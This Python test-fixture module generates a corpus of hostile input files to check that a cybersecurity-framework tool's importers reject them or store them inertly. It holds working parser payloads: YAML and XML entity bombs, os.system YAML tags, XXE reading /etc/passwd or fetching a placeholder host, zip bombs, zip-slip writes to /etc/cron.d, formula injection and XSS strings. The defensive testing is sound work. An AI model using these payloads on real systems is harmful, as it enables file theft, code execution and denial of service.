"""Hostile input files, built in code at test time (no binaries in the repository).

Each :class:`Payload` is a file name and its bytes, and whether it is meant as a
profile file (YAML/JSON) or a framework file (spreadsheet, CSV, JSON, OSCAL).
Every payload goes through every import entry point regardless: what matters is
that each refuses it cleanly (or, for the few harmless-but-nasty ones, accepts it
and stores it inertly).
"""

from __future__ import annotations

import base64
import functools
import io
import json
import stat
import struct
import zipfile
import zlib
from dataclasses import dataclass

from csfpilot.formats.packages import Signer, build_package, canonical

# Addresses in TEST-NET-3 (RFC 5737): never routed, so a fetch could not succeed anyway;
# the socket guard fails the test at the attempt.
REMOTE = "http://203.0.113.7"

HEAD = "format_version: 1\nframework: csf-2.0\nname: Hostile\nscale: status\n"
JHEAD = '{"format_version": 1, "framework": "csf-2.0", "name": "Hostile", "scale": "status"'
DEEP = 100_000


@dataclass(frozen=True)
class Payload:
    name: str  # what it is, for the report
    filename: str
    data: bytes
    kind: str  # "profile", "framework" or "package": which importer it is aimed at
    accepted: bool = False  # True: harmless content that an importer may store


def _yaml(name: str, text: str | bytes, **kw) -> Payload:
    data = text.encode() if isinstance(text, str) else text
    return Payload(name, f"{name}.yaml", data, "profile", **kw)


def _json(name: str, text: str | bytes, **kw) -> Payload:
    data = text.encode() if isinstance(text, str) else text
    return Payload(name, f"{name}.json", data, "profile", **kw)


def billion_laughs_yaml() -> str:
    out = HEAD + 'description: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for i, n in enumerate("bcdefghij"):
        p = "abcdefghij"[i]
        out += f"x{n}: &{n} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
    return out


# -- zip archives, written entry by entry so that the hostile parts are exact ------------------


def _xlsx_parts(sheet_xml: str | None = None, extra: dict[str, bytes] | None = None) -> dict:
    sheet = sheet_xml or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>ID</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    out = {k: v.encode() for k, v in parts.items()}
    out.update(extra or {})
    return out


def _zip(parts: dict[str, bytes], *, symlink: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if name == symlink:
                info.create_system = 3  # Unix, so that the mode bits count
                info.external_attr = (stat.S_IFLNK | 0o777) << 16
            z.writestr(info, data)
    return buf.getvalue()


def xlsx(sheet_xml: str | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    return _zip(_xlsx_parts(sheet_xml, extra))


def xxe_sheet(entity: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f"<!DOCTYPE worksheet [{entity}]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        "</sheetData></worksheet>"
    )


def laughs_entities() -> str:
    ents = ['<!ENTITY lol0 "lol">']
    ents += [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    ents.append('<!ENTITY xxe "&lol9;">')
    return "".join(ents)


def high_ratio_zip() -> bytes:
    """One entry of 64 MB of zeros in about 64 KB (a ratio near 1000 to 1)."""
    parts = _xlsx_parts()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        info = zipfile.ZipInfo("xl/sharedStrings.xml", (2024, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w") as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(64):
                fh.write(chunk)
    return buf.getvalue()


def overlapping_zip(copies: int = 200) -> bytes:
    """The overlapping-entry bomb: many central directory entries that all point at the
    same compressed kernel, so a small file claims ``copies`` times its expansion."""
    kernel_plain = b"A" * (8 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = c.compress(kernel_plain) + c.flush()
    crc = zlib.crc32(kernel_plain)
    name0 = b"xl/worksheets/sheet1.xml"
    local = (
        struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            0,
            8,
            0,
            0,
            crc,
            len(kernel),
            len(kernel_plain),
            len(name0),
            0,
        )
        + name0
    )
    body = local + kernel
    central = b""
    for i in range(copies):
        name = name0 if i == 0 else f"xl/worksheets/sheet{i + 1}.xml".encode()
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(kernel),
                len(kernel_plain),
                len(name),
                0,
                0,
                0,
                0,
                0,
                0,
            )
            + name
        )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, copies, copies, len(central), len(body), 0)
    return body + central + end


def csv_rows(rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    lines = ["ID,Parent,Title,Text", *(",".join(r) for r in rows)]
    return ("\n".join(lines) + "\n").encode(encoding)


FORMULAS = [
    '=HYPERLINK("http://203.0.113.7/x","click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
SCRIPT = "<script>alert('xss')</script>"
JS_URL = "javascript:alert(1)"


def hostile_profile_fields() -> str:
    """A profile whose texts are formulas, scripts and javascript: links (all accepted)."""
    import yaml

    doc = {
        "format_version": 1,
        "framework": "csf-2.0",
        "name": f"Evil {SCRIPT}",
        "scale": "status",
        "description": JS_URL,
        "outcomes": {
            "GV.OC-01": {
                "current": "partially",
                "target": "fully",
                "notes": FORMULAS[0],
                "owner": FORMULAS[1],
            },
            "GV.OC-02": {"notes": FORMULAS[2], "rationale": FORMULAS[3]},
            "GV.OC-03": {"notes": FORMULAS[4], "rationale": FORMULAS[5]},
            "GV.OC-04": {"notes": f"{SCRIPT} <img src=x onerror=alert(1)>", "rationale": JS_URL},
        },
    }
    return yaml.safe_dump(doc, allow_unicode=True, sort_keys=False)


# -- signed packages (docs/packages.md) ----------------------------------------------------------


def _zip_slip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("../../etc/cron.d/x", "* * * * * root true")
        zf.writestr("manifest.json", "{}")
    return buffer.getvalue()


def _forged(good: bytes) -> bytes:
    doc = json.loads(good)
    value = bytearray(base64.b64decode(doc["signature"]["value"]))
    value[10] ^= 0xFF
    doc["signature"]["value"] = base64.b64encode(bytes(value)).decode()
    return canonical(doc)


def _swapped_key(good: bytes) -> bytes:
    doc = json.loads(good)
    doc["signature"]["public_key"] = base64.b64encode(Signer.generate("x").public_key).decode()
    return canonical(doc)


def package_payloads(good: bytes) -> dict[str, bytes]:
    """Hostile variants of the signed package ``good``: each must be refused."""
    return {
        "empty": b"",
        "not json": b"\x00\x01\x02",
        "zip slip": _zip_slip(),
        "deep nesting": b"[" * 100_000 + b"]" * 100_000,
        "duplicate keys": good.replace(b'{"files":', b'{"files":{},"files":', 1),
        "forged signature": _forged(good),
        "swapped key": _swapped_key(good),
        "huge number": good.replace(b'"format_version":1', b'"format_version":' + b"9" * 5000, 1),
        "non-canonical": json.dumps(json.loads(good), indent=2).encode(),
        "utf-16": good.decode().encode("utf-16"),
        "nan": good.replace(b'"format_version":1', b'"format_version":NaN', 1),
        "unknown member": canonical(
            {**json.loads(good), "members": {**json.loads(good)["members"], "evil.json": {}}}
        ),
    }


def signed_sample() -> bytes:
    """An intact, signed scores-level package, signed with a key made for the corpus."""
    scores = {"framework": "csf-2.0", "profile": {}, "functions": [], "categories": []}
    signer = Signer.generate("Corpus signer")
    return build_package("profile", {"scores.json": scores}, "scores", signer)


def _packages() -> list[Payload]:
    return [
        Payload(f"package-{label.replace(' ', '-')}", "package.csfpkg.json", data, "package")
        for label, data in package_payloads(signed_sample()).items()
    ]


@functools.cache
def all_payloads() -> tuple[Payload, ...]:
    P = Payload
    out = [
        # -- YAML: aliases, tags, nesting -------------------------------------------------------
        _yaml("yaml-billion-laughs", billion_laughs_yaml()),
        _yaml(
            "yaml-alias-quadratic",
            HEAD + "a: &a " + "x" * 100_000 + "\n" + "".join(f"k{i}: *a\n" for i in range(10_000)),
        ),
        _yaml(
            "yaml-merge-bomb",
            HEAD + "base: &b {x: 1}\n" + "".join(f"m{i}: {{<<: *b}}\n" for i in range(1000)),
        ),
        _yaml("yaml-python-object", HEAD + "description: !!python/object/apply:os.system ['id']\n"),
        _yaml("yaml-python-name", HEAD + "description: !!python/name:os.system\n"),
        _yaml("yaml-set-tag", HEAD + "description: !!set {a, b}\n"),
        _yaml("yaml-deep-lists", HEAD + "notes: " + "[" * DEEP + "]" * DEEP + "\n"),
        _yaml("yaml-deep-maps", HEAD + "notes: " + "{a: " * DEEP + "1" + "}" * DEEP + "\n"),
        _yaml("yaml-deep-block", HEAD + "".join("  " * i + "k:\n" for i in range(2000))),
        _yaml(
            "yaml-huge-int", HEAD.replace("format_version: 1", "format_version: " + "9" * 100_000)
        ),
        _yaml("yaml-1e400", HEAD + "tiers:\n  governance: {current: 1e400}\n"),
        _yaml("yaml-nul-byte", HEAD.replace("Hostile", "Host\0ile")),
        _yaml("yaml-lone-surrogate-bytes", HEAD.encode().replace(b"Hostile", b"Ho\xed\xa0\x80")),
        _yaml("yaml-utf16-no-bom", HEAD.encode("utf-16-le")),
        _yaml("yaml-utf16-bom", HEAD.encode("utf-16")),
        _yaml("yaml-latin1", (HEAD + "description: caf\u00e9 na\u00efve\n").encode("latin-1")),
        _yaml("yaml-cr-only", HEAD.replace("\n", "\r"), accepted=True),  # valid YAML line breaks
        _yaml("yaml-two-documents", HEAD + "---\n" + HEAD),
        _yaml(
            "yaml-100k-keys",
            HEAD
            + "outcomes:\n"
            + "".join(f"  X.{i}: {{current: fully}}\n" for i in range(100_000)),
        ),
        _yaml("yaml-long-line", HEAD + "description: '" + "x" * 6_000_000 + "'\n", accepted=True),
        _yaml("yaml-empty", b""),
        _yaml("yaml-binary-garbage", bytes(range(256)) * 64),
        _yaml("yaml-unknown-framework", HEAD.replace("csf-2.0", "../../etc/passwd")),
        _yaml("yaml-private-key-tag", HEAD + "description: !<tag:evil.test,2024:x> y\n"),
        # -- JSON -------------------------------------------------------------------------------
        _json("json-deep-lists", JHEAD + ', "notes": ' + "[" * DEEP + "]" * DEEP + "}"),
        _json("json-deep-objects", JHEAD + ', "notes": ' + '{"a":' * DEEP + "1" + "}" * DEEP + "}"),
        _json("json-1e400", JHEAD + ', "tiers": {"governance": {"current": 1e400}}}'),
        _json(
            "json-huge-int",
            JHEAD.replace('"format_version": 1', '"format_version": ' + "7" * 100_000) + "}",
        ),
        _json("json-nan", JHEAD + ', "tiers": {"governance": {"current": NaN}}}'),
        _json("json-infinity", JHEAD + ', "tiers": {"governance": {"current": -Infinity}}}'),
        _json("json-nul-escape", JHEAD.replace("Hostile", "Host\\u0000ile") + "}"),
        _json("json-lone-surrogate", JHEAD.replace("Hostile", "Ho\\ud800") + "}"),
        _json("json-duplicate-keys", JHEAD + ', "name": "Again"}'),
        _json("json-utf16-no-bom", (JHEAD + "}").encode("utf-16-le")),
        _json("json-latin1", (JHEAD.replace("Hostile", "Caf\u00e9") + "}").encode("latin-1")),
        _json("json-truncated", JHEAD),
        _json("json-top-level-array", "[" + JHEAD + "}]"),
        _json("json-proto-keys", JHEAD + ', "__proto__": {"is_staff": true}, "constructor": 1}'),
        # -- spreadsheets and archives ----------------------------------------------------------
        P(
            "xlsx-xxe-file",
            "xxe-file.xlsx",
            xlsx(xxe_sheet('<!ENTITY xxe SYSTEM "file:///etc/passwd">')),
            "framework",
        ),
        P(
            "xlsx-xxe-http",
            "xxe-http.xlsx",
            xlsx(xxe_sheet(f'<!ENTITY xxe SYSTEM "{REMOTE}/xxe">')),
            "framework",
        ),
        P(
            "xlsx-xxe-parameter",
            "xxe-param.xlsx",
            xlsx(xxe_sheet(f'<!ENTITY % p SYSTEM "{REMOTE}/dtd"> %p; <!ENTITY xxe "x">')),
            "framework",
        ),
        P("xlsx-billion-laughs", "laughs.xlsx", xlsx(xxe_sheet(laughs_entities())), "framework"),
        P(
            "xlsx-xxe-content-types",
            "xxe-ct.xlsx",
            _zip(
                {
                    **_xlsx_parts(),
                    "[Content_Types].xml": (
                        f'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "{REMOTE}/ct">]>'
                        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                        "&x;</Types>"
                    ).encode(),
                }
            ),
            "framework",
        ),
        P("xlsx-ratio-bomb", "ratio-bomb.xlsx", high_ratio_zip(), "framework"),
        P("xlsx-overlapping-bomb", "overlap-bomb.xlsx", overlapping_zip(), "framework"),
        P(
            "xlsx-zip-slip",
            "slip.xlsx",
            _zip({**_xlsx_parts(), "../../../../tmp/evil.xml": b"<x/>"}),
            "framework",
        ),
        P(
            "xlsx-absolute-path",
            "abs.xlsx",
            _zip({**_xlsx_parts(), "/etc/cron.d/evil": b"x"}),
            "framework",
        ),
        P(
            "xlsx-backslash-path",
            "backslash.xlsx",
            _zip({**_xlsx_parts(), "..\\..\\evil.xml": b"<x/>"}),
            "framework",
        ),
        P(
            "xlsx-symlink",
            "symlink.xlsx",
            _zip({**_xlsx_parts(), "xl/media/link": b"/etc/passwd"}, symlink="xl/media/link"),
            "framework",
        ),
        P(
            "xlsx-external-link",
            "extlink.xlsx",
            xlsx(
                extra={
                    "xl/externalLinks/externalLink1.xml": (
                        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                        b'<externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/'
                        b'officeDocument/2006/relationships"/></externalLink>'
                    ),
                    "xl/externalLinks/_rels/externalLink1.xml.rels": (
                        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.'
                        'org/officeDocument/2006/relationships/externalLinkPath" '
                        f'Target="{REMOTE}/book.xlsx" TargetMode="External"/></Relationships>'
                    ).encode(),
                }
            ),
            "framework",
        ),
        P("xlsx-truncated", "truncated.xlsx", xlsx()[:-40], "framework"),
        P("xlsx-not-a-zip", "fake.xlsx", b"PK\x03\x04" + b"\xff" * 4000, "framework"),
        P(
            "xlsx-formula-cells",
            "formulas.xlsx",
            xlsx(
                '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("'
                f'{REMOTE}/f")</f></c></row></sheetData></worksheet>'
            ),
            "framework",
        ),
        P(
            "xml-xxe",
            "catalog.xml",
            (
                f'<?xml version="1.0"?><!DOCTYPE catalog [<!ENTITY xxe SYSTEM "{REMOTE}/x">]>'
                '<catalog xmlns="http://csrc.nist.gov/ns/oscal/1.0">&xxe;</catalog>'
            ).encode(),
            "framework",
        ),
        # -- framework JSON and CSV ---------------------------------------------------------------
        P(
            "oscal-remote-import",
            "remote-profile.json",
            json.dumps(
                {
                    "profile": {
                        "uuid": "2f8c3e7a-1b2c-4d5e-8f90-1a2b3c4d5e6f",
                        "metadata": {
                            "title": "Remote",
                            "last-modified": "2024-01-01T00:00:00Z",
                            "version": "1",
                            "oscal-version": "1.1.2",
                        },
                        "imports": [{"href": f"{REMOTE}/catalog.json", "include-all": {}}],
                    }
                }
            ).encode(),
            "framework",
        ),
        P(
            "oscal-deep-groups",
            "deep-catalog.json",
            (
                '{"catalog": {"uuid": "2f8c3e7a-1b2c-4d5e-8f90-1a2b3c4d5e6f", "groups": '
                + '[{"id": "g", "title": "t", "groups": ' * 5000
                + "[]"
                + "}]" * 5000
                + "}}"
            ).encode(),
            "framework",
        ),
        P(
            "framework-json-huge-number",
            "numbers.json",
            b'{"response": {"elements": [' + b"1" * 200_000 + b"]}}",
            "framework",
        ),
        P("csv-nul-bytes", "nul.csv", csv_rows([["A.1", "", "T\0itle", "Text"]]), "framework"),
        P(
            "csv-latin1",
            "latin1.csv",
            csv_rows([["A.1", "", "Caf\u00e9", "na\u00efve"]], "latin-1"),
            "framework",
        ),
        P(
            "csv-utf16-no-bom",
            "utf16.csv",
            csv_rows([["A.1", "", "T", "X"]], "utf-16-le"),
            "framework",
        ),
        P(
            "csv-too-many-rows",
            "rows.csv",
            csv_rows([[f"R{i}", "", "t", "x"] for i in range(100_001)]),
            "framework",
        ),
        P(
            "csv-parent-cycle",
            "cycle.csv",
            csv_rows([["A", "B", "a", "x"], ["B", "A", "b", "x"]]),
            "framework",
        ),
        P(
            "csv-deep-chain",
            "chain.csv",
            csv_rows(
                [["N0", "", "t", "x"]] + [[f"N{i}", f"N{i - 1}", "t", "x"] for i in range(1, 5000)]
            ),
            "framework",
        ),
        P(
            "csv-path-in-key",
            "..%2F..%2Fetc.csv",
            csv_rows([["A.1", "", "t", "x"]]),
            "framework",
            accepted=True,
        ),  # the key is made from the name's safe characters
        # -- accepted, but must stay inert --------------------------------------------------------
        _yaml("yaml-formulas-and-scripts", hostile_profile_fields(), accepted=True),
        P(
            "csv-formulas",
            "formula-framework.csv",
            csv_rows(
                [
                    ["F.1", "", f'"{FORMULAS[0].replace(chr(34), chr(34) * 2)}"', '"+1+1"'],
                    ["F.2", "F.1", '"@SUM(A1)"', '"-2+3"'],
                    ["F.3", "F.1", SCRIPT, JS_URL],
                ]
            ),
            "framework",
            accepted=True,
        ),
    ]
    out += _packages()
    names = [p.name for p in out]
    assert len(names) == len(set(names)), "payload names must be unique"
    return tuple(out)
